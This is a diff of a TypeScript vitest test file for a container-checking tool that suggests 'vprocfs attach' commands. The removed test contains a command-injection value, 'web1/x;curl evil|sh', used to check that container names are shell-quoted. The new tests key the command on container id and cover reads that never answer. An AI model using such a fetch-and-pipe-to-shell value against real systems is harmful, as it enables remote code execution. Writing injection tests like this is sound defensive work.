@@ -1,7 +1,14 @@
-import { describe, expect, it } from "vitest";
+import { describe, expect, it, onTestFinished, vi } from "vitest";
 import { loadConfig } from "../../src/config-load.js";
 import { parseMountinfo } from "../../src/mountinfo.js";
-import { checkContainer, sortMounts } from "../../src/tools/container-checks.js";
+import {
+  type ContainerInputs,
+  checkContainer,
+  sortMounts,
+} from "../../src/tools/container-checks.js";
+import { Findings } from "../../src/tools/findings.js";
+import { checkFigures, Inside } from "../../src/tools/inside.js";
+import { surveyed } from "../metrics/sources.js";
 
 const PATHS = [
   "proc/meminfo",
@@ -61,36 +68,56 @@ describe("sortMounts", () => {
 });
 
 describe("checkContainer", () => {
-  it("quotes a name for the shell in what is to be done", async () => {
-    const own = { id: "1", runtime: "lxc", cgroup: "/x", init: process.pid, lastVictim: "" };
-    const container = { ...own, figures: new Map<string, number>() };
-    const inputs = {
-      surveys: { readInside: () => Promise.reject(new Error("nobody is asked")) },
-      config: loadConfig({
-        flags: { source: "none-of-ours" },
-        env: {},
-        defaultFile: "/nonexistent",
-      }),
-      device: "0:30",
-      devices: new Set<string>(),
-      exclusionReason: () => undefined,
-      paths: ["proc/vprocfs-test"],
-      hostMeminfo: "",
+  const container = {
+    ...surveyed("5021", "web1"),
+    init: process.pid,
+    figures: new Map<string, number>(),
+  };
+  const inputs = {
+    inside: new Inside({ readInside: () => Promise.reject(new Error("nobody is asked")) }, "0:30"),
+    flags: " --mountpoint /x",
+    config: loadConfig({ flags: { source: "none-of-ours" }, env: {}, defaultFile: "/nonexistent" }),
+    device: "0:30",
+    devices: new Set<string>(),
+    exclusionReason: () => undefined,
+    paths: ["proc/vprocfs-test"],
+    hostMeminfo: "",
+  };
+
+  it("advises a command for this container of this vprocfs, if that serves", async () => {
+    const todoOf = async (change: Partial<ContainerInputs>) => {
+      const findings = await checkContainer(container, { ...inputs, ...change });
+      return findings.map(({ what, todo }) => [what.split(":")[0], todo])[0];
     };
-    const todoOf = async (name: string) => {
-      const findings = await checkContainer({ ...container, name }, inputs);
-      return findings.find(({ what }) => what.startsWith("no file of vprocfs"))?.todo;
-    };
-    expect(await todoOf("web1/x;curl evil|sh")).toBe("vprocfs attach 'web1/x;curl evil|sh'");
-    expect(await todoOf("web1/a'b")).toBe(`vprocfs attach 'web1/a'"'"'b'`);
-    expect(await todoOf("web1")).toBe("vprocfs attach web1");
-    // Where nobody serves nothing can be attached.
-    const unserved = await checkContainer(
-      { ...container, name: "web1" },
-      { ...inputs, device: undefined },
-    );
-    const none = unserved.find(({ what }) => what.startsWith("no file of vprocfs"));
-    expect(none).toBeDefined();
-    expect(none).not.toHaveProperty("todo");
+    const none = "no file of vprocfs is mounted";
+    // Another container may be named 5021, and this one like another.
+    expect(await todoOf({})).toEqual([none, "vprocfs attach 5021 --mountpoint /x"]);
+    expect(await todoOf({ inside: undefined })).toEqual([none, undefined]);
   });
+});
+
+it("no file inside is read after one that does not answer", async () => {
+  vi.useFakeTimers();
+  onTestFinished(() => void vi.useRealTimers());
+  const readInside = vi.fn(() => new Promise<string>(() => {}));
+  const inside = new Inside({ readInside }, "0:30");
+  const check = async (id: string) => {
+    const findings = new Findings("web1", id);
+    const figures = new Map([
+      ["memoryTotal", 1024],
+      ["swapTotal", 0],
+      ["cpus", 1],
+    ]);
+    const live = ["proc/meminfo", "proc/stat"];
+    const done = checkFigures(findings, { ...surveyed(id), figures }, { live }, MOUNTS, {
+      inside,
+      hostMeminfo: "",
+    });
+    await vi.advanceTimersByTimeAsync(3000);
+    await done;
+    return findings.list.map(({ what }) => what);
+  };
+  expect(await check("1")).toEqual(["/proc/meminfo inside: does not answer"]);
+  expect(await check("2")).toEqual([]);
+  expect(readInside).toHaveBeenCalledTimes(1);
 });
